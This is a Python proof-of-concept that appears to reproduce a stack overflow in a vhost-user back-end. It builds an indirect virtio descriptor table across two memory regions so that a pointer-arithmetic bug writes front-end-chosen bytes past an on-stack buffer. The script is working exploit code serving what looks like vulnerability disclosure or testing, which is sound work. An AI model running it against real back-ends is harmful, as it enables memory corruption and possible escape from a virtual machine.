#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""An indirect descriptor table that straddles two memory regions.

Two regions of guest memory, adjacent in guest-physical space (A ends where
B begins), separate mappings in the back-end.  One virtio-blk request whose
only ring descriptor is VRING_DESC_F_INDIRECT, its table of TABLE bytes
starting FIRST bytes before the end of A.  vu_gpa_to_va() gives the back-end
only FIRST contiguous bytes, so vu_queue_map_desc() (and
vu_queue_get_avail_bytes()) fall back to virtqueue_read_indirect_desc(),
which copies the table piecewise into the on-stack
    struct vring_desc desc_buf[VIRTQUEUE_MAX_SIZE];
but advances its destination with
    desc += read_len;
where desc is a struct vring_desc * (16 bytes) and read_len a byte count:
the second piece lands 16 * FIRST bytes after desc_buf, i.e. past the end of
the buffer when FIRST > 1024, with its bytes chosen by the front-end (here
0x41 'A').  The front-end chooses FIRST (where the write lands) and the
content: a write of the back-end's stack, seen as "*** stack smashing
detected ***" when it covers the canary.

usage: repro_indirect_straddle.py SOCKET
"""
import os
import struct

from _common import args, say, vuattack as vu

FIRST = int(os.environ.get("REPRO_FIRST", "1024"))  # bytes of the table in region A
TABLE = FIRST + int(os.environ.get("REPRO_REST", "256"))  # table length

sock, = args(1)
c = vu.Conn(sock, timeout=3)
c.negotiate()
a = vu.Memory(1 << 20, "regionA")
b = vu.Memory(1 << 20, "regionB")
gpa_a = 0x100000000
gpa_b = gpa_a + a.size
regions = [struct.pack("<QQQQ", gpa_a, a.size, a.base, 0),
           struct.pack("<QQQQ", gpa_b, b.size, b.base, 0)]
c.call(vu.SET_MEM_TABLE, vu.mem_table(regions), [a.fd, b.fd], ack=True)
say("SET_MEM_TABLE: region A gpa %#x size %#x, region B gpa %#x size %#x (adjacent)" % (
    gpa_a, a.size, gpa_b, b.size))
q = vu.Queue(a, 0, 16)
# ring addresses are front-end virtual addresses (qva); descriptors hold gpas
q.setup(c)
# the table: FIRST bytes at the end of A (a valid read chain), the rest in B
table = a.size - FIRST
hdr = q.mem.alloc(16)
a.write(hdr, struct.pack("<IIQ", vu.BLK_T_IN, 0, 0))
data = a.alloc(512, 512)
status = a.alloc(1)
chain = [(gpa_a + hdr, 16, vu.DESC_F_NEXT, 1), (gpa_a + data, 512,
                                                 vu.DESC_F_WRITE | vu.DESC_F_NEXT, 2),
         (gpa_a + status, 1, vu.DESC_F_WRITE, 0)]
for i, (addr, n, f, nxt) in enumerate(chain):
    a.write(table + 16 * i, struct.pack("<QIHH", addr, n, f, nxt))
b.write(0, b"A" * (TABLE - FIRST))
say("indirect table: gpa %#x, %d bytes (%d in A, %d in B)" % (gpa_a + table, TABLE, FIRST,
                                                           TABLE - FIRST))
q.mem.write(q.desc, struct.pack("<QIHH", gpa_a + table, TABLE, vu.DESC_F_INDIRECT, 0))
q.publish(0)
if q.wait_used(2):
    say("request completed, status %d" % a.read(status, 1)[0])
else:
    say("no completion within 2 s")
say("connection closed by the back-end: %s" % c.closed_within(1))
